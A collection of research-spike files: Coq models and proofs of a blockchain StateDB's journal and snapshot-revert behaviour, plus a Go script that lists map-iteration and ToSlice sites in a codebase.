  | EStorage a k pv => match fst (lookup s a) with Some o => set_objs (snd (lookup s a)) a (Some (w_dirty o k pv)) | None => s end
  | ESuicide a ps pb => match fst (lookup s a) with Some o => set_objs (snd (lookup s a)) a (Some (w_bal (w_sui o ps) pb)) | None => s end
  | EPrecompile saved sd so =>
    let s1 := with_cache s (Some saved) in
    if repaired s then
      let s2 := with_dirt s1 sd in
      (* objects cached after the snapshot were loaded from the discarded store: evict them *)
      fold_left (fun s a => if existsb (fun '(x, _) => Z.eqb x a) so then s else set_objs s a None) (okeys s2) s2
    else s1
  end.

Definition pop_undo (s : sdb) : sdb :=
  match journal s with
  | [] => s
  | e :: rest =>
    let s1 := undo e (with_journal s rest) in
    match dirtied e with
    | None => s1
    | Some a =>
      let c := match dget (dirt s1) a with Some c => c - 1 | None => -1 end in
      with_dirt s1 (if Z.eqb c 0 then ddel (dirt s1) a else dset (dirt s1) a c)
    end
  end.

Fixpoint unwind_k (k : nat) (s : sdb) : sdb := match k with O => s | S k' => unwind_k k' (pop_undo s) end.
Definition unwind (n : nat) (s : sdb) : sdb := unwind_k (length (journal s) - n) s.

(* bank operation inside a precompile body: moves balance in the cache store and mirrors into the StateDB *)
Definition bank_send (s : sdb) (from to : addr) (amt : Z) : sdb :=
  match cache s with
  | None => s
  | Some c =>
    let bf := match accs c from with Some x => x | None => {| a_bal := 0; a_nonce := 0 |} end in
    let bt := match accs c to with Some x => x | None => {| a_bal := 0; a_nonce := 0 |} end in
    if Z.ltb (a_bal bf) amt then s else
    let c1 := {| accs := upd (upd (accs c) from (Some {| a_bal := a_bal bf - amt; a_nonce := a_nonce bf |}))
                          to (Some {| a_bal := (if Z.eqb from to then a_bal bf - amt else a_bal bt) + amt; a_nonce := a_nonce bt |});
                 stor := stor c |} in
    let s1 := with_cache s (Some c1) in
    let balof x := match accs c1 x with Some y => a_bal y | None => 0 end in
    set_balance (set_balance s1 from (balof from)) to (balof to)
  end.

Inductive prog :=
| OAddBalance (a : addr) (amt : Z)
| OSetNonce (a : addr) (n : Z)
| OSetState (a : addr) (k : key) (v : word)
| OSuicide (a : addr) (benef : addr)
| PFrame (body : list prog) (reverted : bool)
| PPrecompile (sends : list (addr * addr * Z)) (fails : bool).

Definition on_run_start (s : sdb) : sdb :=
  let s0 := match cache s with Some _ => s | None => with_cache s (Some (txs s)) end in
  let saved := match cache s0 with Some c => c | None => txs s0 end in
  let so := fold_left (fun acc a => match objs s0 a with Some o => (a, origin o) :: acc | None => acc end) (okeys s0) [] in
  let s1 := push s0 (EPrecompile saved (dirt s0) so) in
  let '(c', s2) := flush false s1 saved in
  with_cache s2 (Some c').

Fixpoint run (p : prog) (s : sdb) {struct p} : sdb :=
  match p with
  | OAddBalance a amt => add_balance s a amt
  | OSetNonce a n => set_nonce s a n
  | OSetState a k v => set_state s a k v
  | OSuicide a b => suicide s a b
  | PFrame body rv =>
    let n := length (journal s) in
    let s' := (fix go (l : list prog) (s : sdb) : sdb := match l with [] => s | p :: t => go t (run p s) end) body s in
    if rv then unwind n s' else s'
  | PPrecompile sends fails =>
    let n := length (journal s) in
    let s1 := on_run_start s in
    let s2 := fold_left (fun s '(f, t, amt) => bank_send s f t amt) sends s1 in
    if fails then unwind n s2 else s2
  end.

Definition commit (s : sdb) : store :=
  let t0 := match cache s with Some c => c | None => txs s end in
  fst (flush true s t0).

(* ---- reference: one joint state, frames copy it ---- *)
Record rstate := { r_accs : addr -> option acct; r_stor : addr -> key -> word; r_sui : addr -> bool }.
Definition r_get (r : rstate) a := match r_accs r a with Some x => x | None => {| a_bal := 0; a_nonce := 0 |} end.
Fixpoint rrun (p : prog) (r : rstate) {struct p} : rstate :=
  match p with
  | OAddBalance a amt => {| r_accs := upd (r_accs r) a (Some {| a_bal := a_bal (r_get r a) + amt; a_nonce := a_nonce (r_get r a) |}); r_stor := r_stor r; r_sui := r_sui r |}
  | OSetNonce a n => {| r_accs := upd (r_accs r) a (Some {| a_bal := a_bal (r_get r a); a_nonce := n |}); r_stor := r_stor r; r_sui := r_sui r |}
  | OSetState a k v => {| r_accs := upd (r_accs r) a (Some (r_get r a));
                          r_stor := fun a' k' => if andb (Z.eqb a' a) (Z.eqb k' k) then v else r_stor r a' k'; r_sui := r_sui r |}
  | OSuicide a b =>
    match r_accs r a with
    | None => r
    | Some x =>
      let r1 := {| r_accs := upd (r_accs r) b (Some {| a_bal := a_bal (r_get r b) + a_bal x; a_nonce := a_nonce (r_get r b) |}); r_stor := r_stor r; r_sui := r_sui r |} in
      let x1 := r_get r1 a in
      {| r_accs := upd (r_accs r1) a (Some {| a_bal := 0; a_nonce := a_nonce x1 |}); r_stor := r_stor r1; r_sui := upd (r_sui r1) a true |}
    end
  | PFrame body rv =>
    let r' := (fix go (l : list prog) (r : rstate) : rstate := match l with [] => r | p :: t => go t (rrun p r) end) body r in
    if rv then r else r'
  | PPrecompile sends fails =>
    let r' := fold_left (fun r '(f, t, amt) =>
                if Z.ltb (a_bal (r_get r f)) amt then r else
                let r1 := {| r_accs := upd (r_accs r) f (Some {| a_bal := a_bal (r_get r f) - amt; a_nonce := a_nonce (r_get r f) |}); r_stor := r_stor r; r_sui := r_sui r |} in
                {| r_accs := upd (r_accs r1) t (Some {| a_bal := a_bal (r_get r1 t) + amt; a_nonce := a_nonce (r_get r1 t) |}); r_stor := r_stor r1; r_sui := r_sui r1 |})
              sends r in
    if fails then r else r'
  end.

(* ---- the witness ---- *)
Definition st0 : store := {| accs := fun a => if Z.eqb a 1 then Some {| a_bal := 100; a_nonce := 1 |} else None; stor := fun _ _ => 0 |}.
Definition init (rep : bool) : sdb :=
  {| objs := fun _ => None; okeys := []; journal := []; dirt := []; txs := st0; cache := None; calls := 0; repaired := rep |}.
Definition r0 : rstate := {| r_accs := accs st0; r_stor := stor st0; r_sui := fun _ => false |}.
Definition rfinal (r : rstate) : rstate := {| r_accs := fun a => if r_sui r a then None else r_accs r a; r_stor := fun a k => if r_sui r a then 0 else r_stor r a k; r_sui := r_sui r |}.

