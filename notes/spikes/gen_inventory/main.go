package main

import (
	"fmt"
	"go/ast"
	"go/types"
	"os"
	"sort"
	"strings"

	"golang.org/x/tools/go/packages"
)

func main() {
	cfg := &packages.Config{Mode: packages.NeedName | packages.NeedFiles | packages.NeedSyntax | packages.NeedTypes | packages.NeedTypesInfo | packages.NeedImports | packages.NeedDeps, Dir: "/repo", Tests: false}
	pkgs, err := packages.Load(cfg, "./x/...", "./app/...", "./eth/...")
	if err != nil {
		fmt.Println("load error:", err)
		os.Exit(1)
	}
	var out []string
	for _, p := range pkgs {
		for _, f := range p.Syntax {
			fname := p.Fset.Position(f.Pos()).Filename
			if strings.HasSuffix(fname, "_test.go") || strings.Contains(fname, ".pb.") {
				continue
			}
			var curFn string
			ast.Inspect(f, func(n ast.Node) bool {
				switch x := n.(type) {
				case *ast.FuncDecl:
					curFn = x.Name.Name
				case *ast.RangeStmt:
					t := p.TypesInfo.TypeOf(x.X)
					if t == nil {
						return true
					}
					if _, ok := t.Underlying().(*types.Map); ok {
						pos := p.Fset.Position(x.Pos())
						out = append(out, fmt.Sprintf("%s:%d func=%s type=%s", strings.TrimPrefix(pos.Filename, "/repo/"), pos.Line, curFn, t.String()))
					}
				case *ast.CallExpr:
					if sel, ok := x.Fun.(*ast.SelectorExpr); ok && sel.Sel.Name == "ToSlice" {
						pos := p.Fset.Position(x.Pos())
						out = append(out, fmt.Sprintf("%s:%d func=%s CALL ToSlice", strings.TrimPrefix(pos.Filename, "/repo/"), pos.Line, curFn))
					}
				}
				return true
			})
		}
	}
	sort.Strings(out)
	for _, l := range out {
		fmt.Println(l)
	}
	fmt.Println("sites:", len(out))
}
