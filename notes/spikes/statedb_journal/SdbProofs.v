From Coq Require Import ZArith List Bool Lia.
Import ListNotations.
Require Import SdbModel.
Open Scope Z_scope.

(* ---- lookup facts ---- *)
Lemma lookup_def s a :
  lookup s a = match objs s a with
               | Some o => Some o
               | None => match kaccs (kp s) a with
                         | None => None
                         | Some ka => Some (new_obj (k_bal ka) (k_nonce ka))
                         end
               end.
Proof. unfold lookup, get_obj. destruct (objs s a); [reflexivity|]. destruct (kaccs (kp s) a); reflexivity. Qed.

Lemma get_obj_fst s a : fst (get_obj s a) = lookup s a. Proof. reflexivity. Qed.
Lemma get_obj_journal s a : journal (snd (get_obj s a)) = journal s.
Proof. unfold get_obj. destruct (objs s a); [reflexivity|]. destruct (kaccs (kp s) a); reflexivity. Qed.
Lemma get_obj_kp s a : kp (snd (get_obj s a)) = kp s.
Proof. unfold get_obj. destruct (objs s a); [reflexivity|]. destruct (kaccs (kp s) a); reflexivity. Qed.
Lemma get_obj_lookup s a a' : lookup (snd (get_obj s a)) a' = lookup s a'.
Proof.
  rewrite !lookup_def. unfold get_obj.
  destruct (objs s a) eqn:Ho; [reflexivity|].
  destruct (kaccs (kp s) a) eqn:Hk; [|reflexivity].
  simpl. unfold upd. destruct (Z.eqb_spec a' a) as [->|Hne].
  - rewrite Ho, Hk. reflexivity.
  - reflexivity.
Qed.

Lemma lookup_set_same s a o : lookup (set_obj s a o) a = Some o.
Proof. rewrite lookup_def. simpl. rewrite upd_same. reflexivity. Qed.
Lemma lookup_set_other s a a' o : a' <> a -> lookup (set_obj s a o) a' = lookup s a'.
Proof. intros H. rewrite !lookup_def. simpl. rewrite upd_other by assumption. reflexivity. Qed.
Lemma lookup_push s e a : lookup (push s e) a = lookup s a.
Proof. rewrite !lookup_def. reflexivity. Qed.

(* a state with the journal replaced *)
Definition with_journal (s : sdb) (j : list entry) : sdb := {| objs := objs s; journal := j; kp := kp s |}.
Lemma lookup_with_journal s j a : lookup (with_journal s j) a = lookup s a.
Proof. rewrite !lookup_def. reflexivity. Qed.

Lemma undo_journal e s : journal (undo e s) = journal s.
Proof. destruct e; simpl; try reflexivity; destruct (lookup s a); reflexivity. Qed.
Lemma undo_kp e s : kp (undo e s) = kp s.
Proof. destruct e; simpl; try reflexivity; destruct (lookup s a); reflexivity. Qed.

(* ---- congruence of undo w.r.t. E ---- *)
Lemma oeq_with_bal kp0 a o1 o2 b : oeq kp0 a o1 o2 -> oeq kp0 a (with_bal o1 b) (with_bal o2 b).
Proof. intros (A1&A2&A3&A4). repeat split; simpl; auto. Qed.
Lemma oeq_with_nonce kp0 a o1 o2 n : oeq kp0 a o1 o2 -> oeq kp0 a (with_nonce o1 n) (with_nonce o2 n).
Proof. intros (A1&A2&A3&A4). repeat split; simpl; auto. Qed.
Lemma oeq_with_suicided kp0 a o1 o2 b : oeq kp0 a o1 o2 -> oeq kp0 a (with_suicided o1 b) (with_suicided o2 b).
Proof. intros (A1&A2&A3&A4). repeat split; simpl; auto. Qed.
Lemma oeq_with_dirty kp0 a o1 o2 k v : oeq kp0 a o1 o2 -> oeq kp0 a (with_dirty o1 k v) (with_dirty o2 k v).
Proof.
  intros (A1&A2&A3&A4). repeat split; simpl; auto.
  intros k'. specialize (A4 k'). unfold st, comm in *. simpl. unfold upd. destruct (Z.eqb k' k); auto.
Qed.

Lemma E_set_obj s1 s2 a o1 o2 :
  E s1 s2 -> oeq (kp s1) a o1 o2 -> E (set_obj s1 a o1) (set_obj s2 a o2).
Proof.
  intros (J & K & O) Ho. split; [exact J|]. split; [exact K|].
  intros a'. simpl. destruct (Z.eq_dec a' a) as [->|Hne].
  - rewrite !lookup_set_same. exact Ho.
  - rewrite !lookup_set_other by assumption. apply O.
Qed.

Lemma E_undo e s1 s2 : E s1 s2 -> E (undo e s1) (undo e s2).
Proof.
  intros HE. pose proof HE as (J & K & O).
  destruct e as [a|a p|a ps pb|a pb|a pn|a k pv]; simpl.
  - (* ECreate *) split; [exact J|]. split; [exact K|]. intros a'.
    rewrite !lookup_def. simpl. unfold upd.
    destruct (Z.eqb_spec a' a) as [->|Hne].
    + rewrite K. destruct (kaccs (kp s2) a); simpl; auto using oeq_refl.
    + specialize (O a'). rewrite !lookup_def in O. exact O.
  - apply E_set_obj; [exact HE| apply oeq_refl].
  - specialize (O a) as Oa. destruct (lookup s1 a) as [o1|], (lookup s2 a) as [o2|]; simpl in Oa; try contradiction; [|exact HE].
    apply E_set_obj; [exact HE|]. apply oeq_with_bal, oeq_with_suicided, Oa.
  - specialize (O a) as Oa. destruct (lookup s1 a) as [o1|], (lookup s2 a) as [o2|]; simpl in Oa; try contradiction; [|exact HE].
    apply E_set_obj; [exact HE|]. apply oeq_with_bal, Oa.
  - specialize (O a) as Oa. destruct (lookup s1 a) as [o1|], (lookup s2 a) as [o2|]; simpl in Oa; try contradiction; [|exact HE].
    apply E_set_obj; [exact HE|]. apply oeq_with_nonce, Oa.
  - specialize (O a) as Oa. destruct (lookup s1 a) as [o1|], (lookup s2 a) as [o2|]; simpl in Oa; try contradiction; [|exact HE].
    apply E_set_obj; [exact HE|]. apply oeq_with_dirty, Oa.
Qed.

Lemma E_with_journal s1 s2 j : E s1 s2 -> E (with_journal s1 j) (with_journal s2 j).
Proof.
  intros (J & K & O). split; [reflexivity|]. split; [exact K|]. intros a.
  rewrite !lookup_with_journal. apply O.
Qed.

Lemma E_pop_undo s1 s2 : E s1 s2 -> E (pop_undo s1) (pop_undo s2).
Proof.
  intros HE. pose proof HE as (J & K & O). unfold pop_undo. rewrite <- J.
  destruct (journal s1) as [|e rest]; [exact HE|].
  apply E_undo. apply (E_with_journal s1 s2 rest HE).
Qed.

Lemma E_unwind_k k : forall s1 s2, E s1 s2 -> E (unwind_k k s1) (unwind_k k s2).
Proof. induction k as [|k IH]; intros s1 s2 HE; simpl; [exact HE|]. apply IH, E_pop_undo, HE. Qed.

Lemma E_unwind n s1 s2 : E s1 s2 -> E (unwind n s1) (unwind n s2).
Proof. intros HE. unfold unwind. destruct HE as (J & K & O). rewrite <- J. apply E_unwind_k. repeat split; auto. Qed.
