(* Spike: Nibiru StateDB journal core; snapshot/revert restores the observable view. *)
From Coq Require Import ZArith List Bool Lia.
Import ListNotations.
Open Scope Z_scope.

Definition addr := Z.
Definition key := Z.
Definition word := Z.

Definition upd {V} (m : Z -> V) (k : Z) (v : V) : Z -> V :=
  fun k' => if Z.eqb k' k then v else m k'.

Lemma upd_same {V} (m : Z -> V) k v : upd m k v k = v.
Proof. unfold upd. rewrite Z.eqb_refl. reflexivity. Qed.
Lemma upd_other {V} (m : Z -> V) k k' v : k' <> k -> upd m k v k' = m k'.
Proof. unfold upd. intros H. destruct (Z.eqb_spec k' k); [contradiction|reflexivity]. Qed.

(* backing keeper: accounts (balance in wei for the spike, nonce) and storage *)
Record kacc := { k_bal : Z; k_nonce : Z }.
Record keeper := { kaccs : addr -> option kacc; kstore : addr -> key -> word }.

Record obj := {
  bal : Z; nonce : Z; suicided : bool;
  origin : key -> option word;   (* cache of committed values *)
  dirty : key -> option word     (* DirtyStorage *)
}.

Inductive entry :=
| ECreate (a : addr)
| EReset (a : addr) (prev : obj)
| ESuicide (a : addr) (prev : bool) (prevbal : Z)
| EBalance (a : addr) (prev : Z)
| ENonce (a : addr) (prev : Z)
| EStorage (a : addr) (k : key) (prev : word).

Record sdb := {
  objs : addr -> option obj;
  journal : list entry;          (* newest first *)
  kp : keeper
}.

Definition new_obj (b n : Z) : obj :=
  {| bal := b; nonce := n; suicided := false; origin := fun _ => None; dirty := fun _ => None |}.

(* getStateObject: live object or load from keeper (and cache it) *)
Definition get_obj (s : sdb) (a : addr) : option obj * sdb :=
  match objs s a with
  | Some o => (Some o, s)
  | None =>
    match kaccs (kp s) a with
    | None => (None, s)
    | Some ka =>
      let o := new_obj (k_bal ka) (k_nonce ka) in
      (Some o, {| objs := upd (objs s) a (Some o); journal := journal s; kp := kp s |})
    end
  end.

Definition set_obj (s : sdb) (a : addr) (o : obj) : sdb :=
  {| objs := upd (objs s) a (Some o); journal := journal s; kp := kp s |}.
Definition push (s : sdb) (e : entry) : sdb :=
  {| objs := objs s; journal := e :: journal s; kp := kp s |}.

(* createObject *)
Definition create_object (s : sdb) (a : addr) : obj * option obj * sdb :=
  let '(prev, s1) := get_obj s a in
  let o := new_obj 0 0 in
  let s2 := match prev with
            | None => push s1 (ECreate a)
            | Some p => push s1 (EReset a p)
            end in
  (o, prev, set_obj s2 a o).

Definition get_or_new (s : sdb) (a : addr) : obj * sdb :=
  let '(o, s1) := get_obj s a in
  match o with
  | Some o => (o, s1)
  | None => let '(o, _, s2) := create_object s1 a in (o, s2)
  end.

Definition with_bal (o : obj) (b : Z) : obj :=
  {| bal := b; nonce := nonce o; suicided := suicided o; origin := origin o; dirty := dirty o |}.
Definition with_nonce (o : obj) (n : Z) : obj :=
  {| bal := bal o; nonce := n; suicided := suicided o; origin := origin o; dirty := dirty o |}.
Definition with_suicided (o : obj) (b : bool) : obj :=
  {| bal := bal o; nonce := nonce o; suicided := b; origin := origin o; dirty := dirty o |}.
Definition with_dirty (o : obj) (k : key) (v : word) : obj :=
  {| bal := bal o; nonce := nonce o; suicided := suicided o; origin := origin o; dirty := upd (dirty o) k (Some v) |}.
Definition with_origin (o : obj) (k : key) (v : word) : obj :=
  {| bal := bal o; nonce := nonce o; suicided := suicided o; origin := upd (origin o) k (Some v); dirty := dirty o |}.

(* committed state of object o at address a *)
Definition committed (s : sdb) (a : addr) (o : obj) (k : key) : word :=
  match origin o k with Some v => v | None => kstore (kp s) a k end.
Definition obj_state (s : sdb) (a : addr) (o : obj) (k : key) : word :=
  match dirty o k with Some v => v | None => committed s a o k end.

(* operations *)
Definition add_balance (s : sdb) (a : addr) (amt : Z) : sdb :=
  let '(o, s1) := get_or_new s a in
  if Z.eqb amt 0 then s1
  else set_obj (push s1 (EBalance a (bal o))) a (with_bal o (bal o + amt)).

Definition set_nonce (s : sdb) (a : addr) (n : Z) : sdb :=
  let '(o, s1) := get_or_new s a in
  set_obj (push s1 (ENonce a (nonce o))) a (with_nonce o n).

Definition set_state (s : sdb) (a : addr) (k : key) (v : word) : sdb :=
  let '(o, s1) := get_or_new s a in
  let prev := obj_state s1 a o k in
  (* GetCommittedState caches the committed value in OriginStorage *)
  let o1 := match dirty o k with
            | Some _ => o
            | None => match origin o k with Some _ => o | None => with_origin o k (kstore (kp s1) a k) end
            end in
  if Z.eqb prev v then set_obj s1 a o1
  else set_obj (push s1 (EStorage a k prev)) a (with_dirty o1 k v).

Definition suicide (s : sdb) (a : addr) : sdb :=
  let '(o, s1) := get_obj s a in
  match o with
  | None => s1
  | Some o => set_obj (push s1 (ESuicide a (suicided o) (bal o))) a (with_bal (with_suicided o true) 0)
  end.

Definition create_account (s : sdb) (a : addr) : sdb :=
  let '(o, prev, s1) := create_object s a in
  match prev with
  | Some p => set_obj s1 a (with_bal o (bal p))
  | None => s1
  end.

(* journal entry revert; like Go, Revert goes through getStateObject (lazy load) *)
Definition lookup (s : sdb) (a : addr) : option obj := fst (get_obj s a).

Definition undo (e : entry) (s : sdb) : sdb :=
  match e with
  | ECreate a => {| objs := upd (objs s) a None; journal := journal s; kp := kp s |}
  | EReset a p => set_obj s a p
  | ESuicide a ps pb =>
    match lookup s a with
    | Some o => set_obj s a (with_bal (with_suicided o ps) pb)
    | None => s
    end
  | EBalance a pb => match lookup s a with Some o => set_obj s a (with_bal o pb) | None => s end
  | ENonce a pn => match lookup s a with Some o => set_obj s a (with_nonce o pn) | None => s end
  | EStorage a k pv => match lookup s a with Some o => set_obj s a (with_dirty o k pv) | None => s end
  end.

Definition pop_undo (s : sdb) : sdb :=
  match journal s with
  | [] => s
  | e :: rest => undo e {| objs := objs s; journal := rest; kp := kp s |}
  end.

Fixpoint unwind_k (k : nat) (s : sdb) : sdb :=
  match k with O => s | S k' => unwind_k k' (pop_undo s) end.

Definition unwind (n : nat) (s : sdb) : sdb := unwind_k (length (journal s) - n) s.

Inductive op :=
| OAddBalance (a : addr) (amt : Z)
| OSetNonce (a : addr) (n : Z)
| OSetState (a : addr) (k : key) (v : word)
| OSuicide (a : addr)
| OCreateAccount (a : addr).

Inductive prog :=
| POp (o : op)
| PFrame (body : list prog) (reverted : bool).

Definition run_op (o : op) (s : sdb) : sdb :=
  match o with
  | OAddBalance a amt => add_balance s a amt
  | OSetNonce a n => set_nonce s a n
  | OSetState a k v => set_state s a k v
  | OSuicide a => suicide s a
  | OCreateAccount a => create_account s a
  end.

Fixpoint run (p : prog) (s : sdb) {struct p} : sdb :=
  match p with
  | POp o => run_op o s
  | PFrame body rv =>
    let n := length (journal s) in
    let s' := (fix go (l : list prog) (s : sdb) : sdb :=
                 match l with [] => s | p :: t => go t (run p s) end) body s in
    if rv then unwind n s' else s'
  end.

Definition run_list (l : list prog) (s : sdb) : sdb := fold_left (fun s p => run p s) l s.

(* observable view *)
Record aview := { v_exists : bool; v_bal : Z; v_nonce : Z; v_suicided : bool }.
Definition view_acc (s : sdb) (a : addr) : aview :=
  match fst (get_obj s a) with
  | None => {| v_exists := false; v_bal := 0; v_nonce := 0; v_suicided := false |}
  | Some o => {| v_exists := true; v_bal := bal o; v_nonce := nonce o; v_suicided := suicided o |}
  end.
Definition view_state (s : sdb) (a : addr) (k : key) : word :=
  match fst (get_obj s a) with
  | None => 0
  | Some o => obj_state s a o k
  end.

Definition veq (s1 s2 : sdb) : Prop :=
  (forall a, view_acc s1 a = view_acc s2 a) /\ (forall a k, view_state s1 a k = view_state s2 a k).

(* ---------- proof infrastructure ---------- *)

Definition comm (kp0 : keeper) (a : addr) (o : obj) (k : key) : word :=
  match origin o k with Some v => v | None => kstore kp0 a k end.

Definition st (kp0 : keeper) (a : addr) (o : obj) (k : key) : word :=
  match dirty o k with Some v => v | None => comm kp0 a o k end.

Definition oeq (kp0 : keeper) (a : addr) (o1 o2 : obj) : Prop :=
  bal o1 = bal o2 /\ nonce o1 = nonce o2 /\ suicided o1 = suicided o2 /\
  (forall k, st kp0 a o1 k = st kp0 a o2 k).

Definition ooeq (kp0 : keeper) (a : addr) (x y : option obj) : Prop :=
  match x, y with
  | None, None => True
  | Some o1, Some o2 => oeq kp0 a o1 o2
  | _, _ => False
  end.

Definition E (s1 s2 : sdb) : Prop :=
  journal s1 = journal s2 /\ kp s1 = kp s2 /\ forall a, ooeq (kp s1) a (lookup s1 a) (lookup s2 a).

Lemma oeq_refl kp0 a o : oeq kp0 a o o.
Proof. repeat split; reflexivity. Qed.
Lemma ooeq_refl kp0 a x : ooeq kp0 a x x.
Proof. destruct x; simpl; auto using oeq_refl. Qed.
Lemma E_refl s : E s s.
Proof. repeat split; auto using ooeq_refl. Qed.

Lemma oeq_trans kp0 a o1 o2 o3 : oeq kp0 a o1 o2 -> oeq kp0 a o2 o3 -> oeq kp0 a o1 o3.
Proof.
  intros (A1 & A2 & A3 & A4) (B1 & B2 & B3 & B4).
  split; [congruence|]. split; [congruence|]. split; [congruence|].
  intros k; rewrite A4; apply B4.
Qed.
Lemma ooeq_trans kp0 a x y z : ooeq kp0 a x y -> ooeq kp0 a y z -> ooeq kp0 a x z.
Proof. destruct x, y, z; simpl; try tauto. apply oeq_trans. Qed.
Lemma E_trans s1 s2 s3 : E s1 s2 -> E s2 s3 -> E s1 s3.
Proof.
  intros (J1 & K1 & O1) (J2 & K2 & O2). repeat split; try congruence.
  intros a. eapply ooeq_trans; [apply O1|]. rewrite K1. apply O2.
Qed.
