From Coq Require Import ZArith Lia List.
From Coq Require Import ZifyBool.
Import ListNotations.
Open Scope Z_scope.
Ltac Zify.zify_post_hook ::= Z.div_mod_to_equations.

Lemma net_lin (A B : Z) : let k := 1000000000000 in 0 <= A -> 0 <= B ->
  let net := (A+B)/k - A/k in
  k*net - k < B < k*net + k /\ 0 <= net <= (A+B)/k.
Proof. intros k HA HB net. subst net k. lia. Qed.

Lemma net_payment_bounds (L u p : Z) :
  0 <= u <= L -> 0 <= p ->
  let k := 1000000000000 in
  let net := (L*p)/k - ((L-u)*p)/k in
  k*net - k < u*p < k*net + k /\ 0 <= net <= (L*p)/k.
Proof.
  intros H Hp k net. subst net.
  assert (HA: 0 <= (L-u)*p) by nia. assert (HB: 0 <= u*p) by nia.
  replace (L*p) with ((L-u)*p + u*p) by ring.
  apply net_lin; assumption.
Qed.

Lemma sum_floor_le (a b k : Z) : 0 < k -> a / k + b / k <= (a + b) / k.
Proof. intros. nia. Qed.
