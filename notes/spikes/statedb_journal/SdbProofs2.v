From Coq Require Import ZArith List Bool Lia.
Import ListNotations.
Require Import SdbModel SdbProofs.
Open Scope Z_scope.

Lemma get_obj_none s a : lookup s a = None -> get_obj s a = (None, s).
Proof.
  rewrite lookup_def. unfold get_obj.
  destruct (objs s a); [discriminate|]. destruct (kaccs (kp s) a); [discriminate|reflexivity].
Qed.

Lemma get_obj_some s a o : lookup s a = Some o -> get_obj s a = (Some o, snd (get_obj s a)).
Proof. intros H. unfold lookup in H. destruct (get_obj s a) as [x s1]. simpl in *. subst. reflexivity. Qed.

(* E between a state and a state differing only by cached loads *)
Lemma E_cached s a : E (snd (get_obj s a)) s.
Proof.
  split; [apply get_obj_journal|]. split; [apply get_obj_kp|].
  intros a'. rewrite get_obj_lookup. apply ooeq_refl.
Qed.

Lemma pop_undo_journal s e rest : journal s = e :: rest -> journal (pop_undo s) = rest.
Proof. intros H. unfold pop_undo. rewrite H. rewrite undo_journal. reflexivity. Qed.

Lemma unwind_k_len k : forall s, (k <= length (journal s))%nat ->
  length (journal (unwind_k k s)) = (length (journal s) - k)%nat.
Proof.
  induction k as [|k IH]; intros s Hk; simpl; [lia|].
  destruct (journal s) as [|e rest] eqn:Hj; simpl in Hk; [lia|].
  pose proof (pop_undo_journal s e rest Hj) as Hp.
  rewrite IH; rewrite Hp; simpl; lia.
Qed.

Lemma unwind_len n s : (n <= length (journal s))%nat -> length (journal (unwind n s)) = n.
Proof. intros H. unfold unwind. rewrite unwind_k_len; lia. Qed.

Lemma unwind_k_add k1 k2 s : unwind_k (k1 + k2) s = unwind_k k2 (unwind_k k1 s).
Proof. revert s; induction k1 as [|k1 IH]; intros s; simpl; [reflexivity|apply IH]. Qed.

Lemma unwind_compose n m s :
  (n <= m)%nat -> (m <= length (journal s))%nat -> unwind n s = unwind n (unwind m s).
Proof.
  intros Hnm Hm. pose proof (unwind_len m s Hm) as Hl.
  change (unwind n (unwind m s)) with (unwind_k (length (journal (unwind m s)) - n) (unwind m s)).
  rewrite Hl. unfold unwind.
  replace (length (journal s) - n)%nat with ((length (journal s) - m) + (m - n))%nat by lia.
  rewrite unwind_k_add. reflexivity.
Qed.

Lemma unwind_id s : unwind (length (journal s)) s = s.
Proof. unfold unwind. rewrite Nat.sub_diag. reflexivity. Qed.


Lemma unwind_prefix es j n s' :
  journal s' = es ++ j -> length j = n -> unwind n s' = unwind_k (length es) s'.
Proof.
  intros Hj Hn. unfold unwind. rewrite Hj, app_length, Hn.
  replace (length es + n - n)%nat with (length es) by lia. reflexivity.
Qed.

Lemma pop_undo_cons s e rest : journal s = e :: rest -> pop_undo s = undo e (with_journal s rest).
Proof. intros H. unfold pop_undo. rewrite H. reflexivity. Qed.

Lemma journal_set_obj s a o : journal (set_obj s a o) = journal s. Proof. reflexivity. Qed.
Lemma journal_push s e : journal (push s e) = e :: journal s. Proof. reflexivity. Qed.
Lemma journal_with_journal s j : journal (with_journal s j) = j. Proof. reflexivity. Qed.
Lemma kp_set_obj s a o : kp (set_obj s a o) = kp s. Proof. reflexivity. Qed.
Lemma kp_push s e : kp (push s e) = kp s. Proof. reflexivity. Qed.
Lemma kp_with_journal s j : kp (with_journal s j) = kp s. Proof. reflexivity. Qed.

Lemma undo_balance s a pb o : lookup s a = Some o -> undo (EBalance a pb) s = set_obj s a (with_bal o pb).
Proof. intros H. simpl. rewrite H. reflexivity. Qed.
Lemma undo_nonce s a pn o : lookup s a = Some o -> undo (ENonce a pn) s = set_obj s a (with_nonce o pn).
Proof. intros H. simpl. rewrite H. reflexivity. Qed.
Lemma undo_storage s a k pv o : lookup s a = Some o -> undo (EStorage a k pv) s = set_obj s a (with_dirty o k pv).
Proof. intros H. simpl. rewrite H. reflexivity. Qed.
Lemma undo_suicide s a ps pb o : lookup s a = Some o -> undo (ESuicide a ps pb) s = set_obj s a (with_bal (with_suicided o ps) pb).
Proof. intros H. simpl. rewrite H. reflexivity. Qed.
Lemma undo_reset s a p : undo (EReset a p) s = set_obj s a p. Proof. reflexivity. Qed.

Definition del_obj (s : sdb) (a : addr) : sdb := {| objs := upd (objs s) a None; journal := journal s; kp := kp s |}.
Lemma undo_create s a : undo (ECreate a) s = del_obj s a. Proof. reflexivity. Qed.
Lemma journal_del s a : journal (del_obj s a) = journal s. Proof. reflexivity. Qed.
Lemma kp_del s a : kp (del_obj s a) = kp s. Proof. reflexivity. Qed.
Lemma lookup_del_other s a a' : a' <> a -> lookup (del_obj s a) a' = lookup s a'.
Proof. intros H. rewrite !lookup_def. simpl. rewrite upd_other by assumption. reflexivity. Qed.
Lemma lookup_del_same s a : lookup (del_obj s a) a =
  match kaccs (kp s) a with None => None | Some ka => Some (new_obj (k_bal ka) (k_nonce ka)) end.
Proof. rewrite lookup_def. simpl. rewrite upd_same. reflexivity. Qed.
Lemma lookup_none_kaccs s a : lookup s a = None -> kaccs (kp s) a = None.
Proof. rewrite lookup_def. destruct (objs s a); [discriminate|]. destruct (kaccs (kp s) a); [discriminate|reflexivity]. Qed.

Global Opaque set_obj push with_journal del_obj.

(* ---- every op only prepends to the journal, and unwinding it gives an E-equal state ---- *)

Definition op_ok (s s' : sdb) : Prop :=
  (length (journal s) <= length (journal s'))%nat /\ E (unwind (length (journal s)) s') s.

Ltac jk := repeat first [ rewrite journal_set_obj | rewrite journal_push | rewrite journal_with_journal
                        | rewrite journal_del | rewrite kp_set_obj | rewrite kp_push | rewrite kp_with_journal
                        | rewrite kp_del | rewrite get_obj_journal | rewrite get_obj_kp ].
